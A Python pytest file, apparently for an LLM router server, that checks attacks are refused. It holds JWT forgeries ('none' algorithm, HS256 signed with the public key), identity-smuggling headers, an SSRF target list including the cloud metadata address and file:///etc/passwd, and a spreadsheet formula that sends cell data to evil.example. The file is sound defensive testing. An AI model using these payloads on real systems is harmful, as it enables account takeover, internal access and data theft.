"""What an attacker tries at both doors: forged tokens, smuggled identities, endpoints that lead inside, formulas."""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json
import time
import uuid
from typing import TYPE_CHECKING, Any

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_private_key

import http_json
from llmrouter import AsyncClient, Client, InvalidField, Unauthenticated
from llmrouter.v2.model_service_pb2 import ListModelsRequest
from llmrouter.v2.provider_service_pb2 import CreateProviderRequest, UpdateProviderRequest
from llmrouter.v2.settings_service_pb2 import GetSettingsRequest
from llmrouter.v2.usage_pb2 import USAGE_STATUS_ERROR
from llmrouter.v2.usage_service_pb2 import ExportUsageRequest, RecordUsageRequest
from llmrouter_server.runtime.dev_identity import AUDIENCE, ISSUER

if TYPE_CHECKING:
    from collections.abc import Callable
    from contextlib import AbstractAsyncContextManager

    from conftest import User
    from llmrouter_server.runtime.local_stack import LocalStack


def signed(stack: LocalStack, *, key: Any = None, algorithm: str = "EdDSA", **changes: Any) -> str:
    """Make a token that is good except for the changes; a claim changed to None is left out."""
    folder = stack.identity.jwks_file.parent
    own = load_pem_private_key((folder / "private_key.pem").read_bytes(), password=None)
    kid = json.loads(stack.identity.jwks_file.read_text())["keys"][0]["kid"]
    now = int(time.time())
    claims = {"iss": ISSUER, "aud": AUDIENCE, "sub": str(uuid.uuid4()), "roles": ["admin"], "exp": now + 600} | changes
    claims = {name: value for name, value in claims.items() if value is not None}
    if algorithm == "none":
        return jwt.encode(claims, None, algorithm="none", headers={"kid": kid})
    if algorithm == "HS256":  # the public key as the secret, which the library would refuse to do
        secret = own.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        parts = [{"alg": "HS256", "typ": "JWT", "kid": kid}, claims]
        signing = b".".join(base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=") for part in parts)
        mac = base64.urlsafe_b64encode(hmac.digest(secret, signing, hashlib.sha256)).rstrip(b"=")
        return (signing + b"." + mac).decode()
    return jwt.encode(claims, key or own, algorithm=algorithm, headers={"kid": kid})


FORGED: dict[str, dict[str, Any]] = {
    "no signature": {"algorithm": "none"},
    "signed with the public key": {"algorithm": "HS256"},
    "signed with another key": {"key": Ed25519PrivateKey.generate()},
    "for another audience": {"aud": "somebody-else"},
    "by another issuer": {"iss": "https://evil.example"},
    "expired": {"exp": 1_000_000_000},
    "not valid yet": {"nbf": 4_000_000_000},
    "without an expiry": {"exp": None},
    "without a subject": {"sub": None},
    "whose subject is no UUID": {"sub": "root"},
}


@pytest.mark.parametrize("name", FORGED)
async def test_a_forged_token_opens_neither_door(stack: LocalStack, name: str) -> None:
    token = signed(stack, **FORGED[name])
    async with AsyncClient(stack.grpc_address, token=token) as client:
        with pytest.raises(Unauthenticated) as refused:
            await client.settings.GetSettings(GetSettingsRequest())
    answer = http_json.call("GET", f"{stack.base_url}/settings", token=token)
    assert (answer.status, answer.json["details"][0]["reason"]) == (401, "UNAUTHENTICATED")
    assert token not in f"{refused.value} {answer}"


def test_the_same_token_unforged_opens_both(stack: LocalStack) -> None:
    token = signed(stack)
    with Client(stack.grpc_address, token=token) as client:
        client.settings.GetSettings(GetSettingsRequest())
    assert http_json.call("GET", f"{stack.base_url}/settings", token=token).status == 200


@pytest.mark.parametrize(
    "name", ["x-user-id", "x-jwt-payload", "x-envoy-original-path", "x-forwarded-user", "grpc-user", "llmrouter-user"]
)
def test_an_identity_smuggled_in_a_header_is_nobodys(
    stack: LocalStack, new_user: Callable[..., User], name: str
) -> None:
    me, other = new_user(), new_user("admin")
    payload = base64.urlsafe_b64encode(json.dumps({"sub": str(other.id), "roles": ["admin"]}).encode()).decode()
    for value in (str(other.id), payload):
        headers = {name: value, "cookie": f"session={other.token}"}
        answer = http_json.call("GET", f"{stack.base_url}/settings", token=me.token, headers=headers)
        assert (answer.status, answer.json["user_id"]) == (200, str(me.id))
        refused = http_json.call("GET", f"{stack.base_url}/providers", token=me.token, headers=headers)
        assert refused.status == 403


INSIDE = [
    "http://127.0.0.1:8000/v1",
    "http://localhost/v1",
    "http://[::1]/v1",
    "http://[::ffff:127.0.0.1]/v1",
    "http://169.254.169.254/latest/meta-data",
    "http://10.0.0.1/v1",
    "http://2130706433/v1",
    "http://0x7f.1/v1",
    "http://user:pass@llm.example.com/v1",
    "file:///etc/passwd",
]


async def test_no_provider_may_lead_inside_unless_the_operator_allows_it(
    own_stack: Callable[..., AbstractAsyncContextManager[LocalStack]],
) -> None:
    async with own_stack(server_env={"ALLOW_PRIVATE_ENDPOINTS": "false"}) as strict:
        token = strict.identity.mint("admin")
        async with AsyncClient(strict.grpc_address, token=token) as admin:
            good = CreateProviderRequest(name="good", provider_type="x", api_endpoint="https://llm.example.com/v1")
            created = await admin.providers.CreateProvider(good)
            for endpoint in INSIDE:
                for request in (
                    admin.providers.CreateProvider(
                        CreateProviderRequest(name="bad", provider_type="x", api_endpoint=endpoint)
                    ),
                    admin.providers.UpdateProvider(
                        UpdateProviderRequest(provider_id=created.provider_id, api_endpoint=endpoint)
                    ),
                ):
                    with pytest.raises(InvalidField) as refused:
                        await request
                    assert [field.field for field in refused.value.fields] == ["api_endpoint"], endpoint


async def test_an_export_holds_no_formula(stack: LocalStack, new_user: Callable[..., User]) -> None:
    user, bait = new_user(), '=HYPERLINK("https://evil.example/?"&A1)'
    async with AsyncClient(stack.grpc_address, token=stack.identity.mint("service")) as service:
        models = await service.models.ListModels(ListModelsRequest())
        for number, text in enumerate((bait, " " + bait, "\t" + bait, "+1+1", "-1", "@SUM(A1)", "fine")):
            await service.usage.RecordUsage(
                RecordUsageRequest(
                    user_id=str(user.id),
                    request_id=f"={number}",
                    model_id=models.models[0].model_id,
                    status=USAGE_STATUS_ERROR,
                    error_message=text,
                )
            )
    async with AsyncClient(stack.grpc_address, token=user.token) as client:
        parts = [part.data async for part in client.usage.ExportUsage(ExportUsageRequest())]
    rows = list(csv.DictReader(io.StringIO(b"".join(parts).decode())))
    assert len(rows) == 7
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    assert {"'=0", "'=6"} <= {row["request_id"] for row in rows}
    assert "fine" in {row["error_message"] for row in rows}
